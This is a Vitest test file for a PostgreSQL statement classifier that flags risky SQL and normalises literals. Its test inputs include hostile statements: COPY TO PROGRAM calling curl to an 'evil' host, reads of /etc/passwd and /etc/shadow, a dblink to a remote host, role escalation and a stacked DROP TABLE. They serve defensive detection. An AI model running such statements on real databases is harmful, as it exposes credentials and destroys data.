import { beforeAll, describe, expect, it } from 'vitest';
import { StatementInspector } from '../../src/detect/classify.js';
import { loadSqlParser } from '../../src/detect/sql-parser.js';

let inspector: StatementInspector;
beforeAll(async () => {
  await loadSqlParser();
  inspector = new StatementInspector();
});

describe('statement classification', () => {
  it.each([
    ['select * from public.accounts a join orders o on o.aid = a.id', 'read', ['public.accounts', 'orders'], []],
    ['insert into t (a) values (1)', 'write', ['t'], []],
    ['with gone as (delete from t where id = 1 returning *) select * from gone', 'write', ['t'], []],
    ['update t set a = 1', 'write', ['t'], ['update-without-where']],
    ['delete from t', 'write', ['t'], ['delete-without-where']],
    ['delete from t where id = 3', 'write', ['t'], []],
    ['truncate t', 'write', ['t'], ['truncate']],
    ['drop table t', 'ddl', [], ['drop']],
    ['alter system set work_mem = 1', 'ddl', [], ['alter-system']],
    ["copy t to program 'curl evil'", 'read', ['t'], ['copy-program']],
    ["copy t from '/etc/passwd'", 'write', ['t'], ['copy-server-file']],
    ['copy t to stdout', 'read', ['t'], []],
    ["select pg_read_file('/etc/passwd')", 'read', [], ['server-file-function']],
    ["select lo_import('/etc/shadow')", 'read', [], ['large-object-function']],
    ["select * from dblink('host=evil', 'select 1') as x(a int)", 'read', [], ['remote-access']],
    ['set role postgres', 'utility', [], ['set-role']],
    ['set session authorization postgres', 'utility', [], ['set-session-authorization']],
    ['create extension dblink', 'ddl', [], ['create-extension']],
    ['select 1; drop table t', 'ddl', [], ['multi-statement', 'drop']],
    ['grant select on t to public', 'dcl', ['t'], []],
    ['begin', 'transaction', [], []],
    ['selec 1', 'invalid', [], []],
  ])('%s', (sql, category, tables, risks) => {
    const info = inspector.inspect(sql);
    expect(info.category).toBe(category);
    expect(info.tables).toEqual(tables);
    expect(info.risks).toEqual(risks);
  });

  it('keeps no literal in the normalized text it audits', () => {
    const info = inspector.inspect("alter role app password 'hunter2'");
    expect(info.normalized).toBe('alter role app password $1');
  });

  it('parses a statement once however many constants it is run with', () => {
    const before = inspector.parses;
    for (let i = 0; i < 100; i++) inspector.inspect(`SELECT abalance FROM pgbench_accounts WHERE aid = ${i};`);
    expect(inspector.parses - before).toBe(1);
  });
});

describe('literal shape keys', async () => {
  const { literalKey } = await import('../../src/detect/literal-key.js');
  it.each([
    ["select * from t where a = 'x''y' and b = 42 and c = 3.5", 'select * from t where a = ? and b = ? and c = ?'],
    ['select col1, "we""ird 9" from t2 where id=7', 'select col1, "we""ird 9" from t2 where id=?'],
    [
      'SELECT abalance FROM pgbench_accounts WHERE aid = 12345;',
      'SELECT abalance FROM pgbench_accounts WHERE aid = ?;',
    ],
  ])('%s', (sql, key) => {
    expect(literalKey(sql)).toBe(key);
  });

  it.each([
    "select E'\\\\x'",
    'select $$x$$',
    'select 1 -- c',
    'select /* c */ 1',
    "select 'a\\\\b'",
    'select 1e5',
    'select $1',
    "select x'ff'",
  ])('leaves %j to the parser', (sql) => {
    expect(literalKey(sql)).toBeNull();
  });
});
